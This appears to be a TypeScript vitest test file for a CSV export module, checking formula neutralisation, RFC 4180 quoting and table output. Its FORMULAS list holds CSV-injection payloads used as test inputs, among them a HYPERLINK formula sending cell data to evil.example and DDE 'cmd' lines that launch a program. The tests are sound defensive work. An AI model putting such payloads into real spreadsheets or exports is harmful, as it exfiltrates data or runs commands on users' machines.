import { describe, expect, it } from 'vitest';
import { csvField, neutraliseFormula, toCsvTable } from '../../src/model/csv';
import { readCsv, spreadsheetRuns } from '../support/readers';

/** Cells a spreadsheet runs, as OWASP's "CSV injection" lists them and as attackers hide them. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\tanything',
  '\rline',
  '  =1+1',
  '\u00a0=1+1',
  '"=1+1"',
  '“=1+1',
  ' " @SUM(A1)',
  '＝1+1',
  '-',
  '+',
  '@',
];

describe('neutraliseFormula', () => {
  it.each(FORMULAS)('keeps a spreadsheet from running %j', (cell) => {
    expect(spreadsheetRuns(cell)).toBe(true);
    const safe = neutraliseFormula(cell);
    expect(spreadsheetRuns(safe)).toBe(false);
    // Nothing is lost: the text follows the apostrophe as it was.
    expect(safe).toBe(`'${cell}`);
  });

  it('leaves numbers, dates and ordinary text as they are', () => {
    for (const cell of [
      '-5',
      '+3',
      '2.5',
      '-1e3',
      '2021-05-02T08:10:00+06:00',
      'Tokayev',
      'a=b',
      'Тоқаев',
      '',
      "'=1+1",
    ])
      expect(neutraliseFormula(cell)).toBe(cell);
  });
});

describe('csvField', () => {
  it('quotes a field with a comma, a quote or a line break, doubling its quotes (RFC 4180)', () => {
    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField('plain')).toBe('plain');
    expect(csvField(42)).toBe('42');
    expect(csvField(null)).toBe('');
  });
});

describe('toCsvTable', () => {
  const header = ['title', 'count'];
  const rows = [
    ...FORMULAS.map((cell, i) => [cell, i]),
    ['Токаев и Путин: «итоги», "quotes"', -5],
    ['line\r\nbreak', 0],
  ];
  const text = toCsvTable(header, rows);

  it('starts with a UTF-8 byte order mark, then the header as the first record', () => {
    expect(text.startsWith('\uFEFFtitle,count\r\n')).toBe(true);
    expect(new TextEncoder().encode(text).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('is read back by two CSV parsers, keyed by the header, with every value and no formula', () => {
    const records = readCsv(text);
    expect(records).toHaveLength(rows.length);
    expect(Object.keys(records[0]!)).toEqual(header);
    for (const record of records) expect(spreadsheetRuns(record['title']!), record['title']).toBe(false);
    expect(records.at(-2)).toEqual({ title: 'Токаев и Путин: «итоги», "quotes"', count: '-5' });
    expect(records.at(-1)).toEqual({ title: 'line\r\nbreak', count: '0' });
    expect(records.map((r) => r['title']!.replace(/^'/, ''))).toEqual(rows.map((r) => r[0]));
  });

  it('refuses a row with another number of fields than the header', () => {
    expect(() => toCsvTable(header, [['a']])).toThrow('CSV row 1 has 1 fields, the header 2');
  });
});
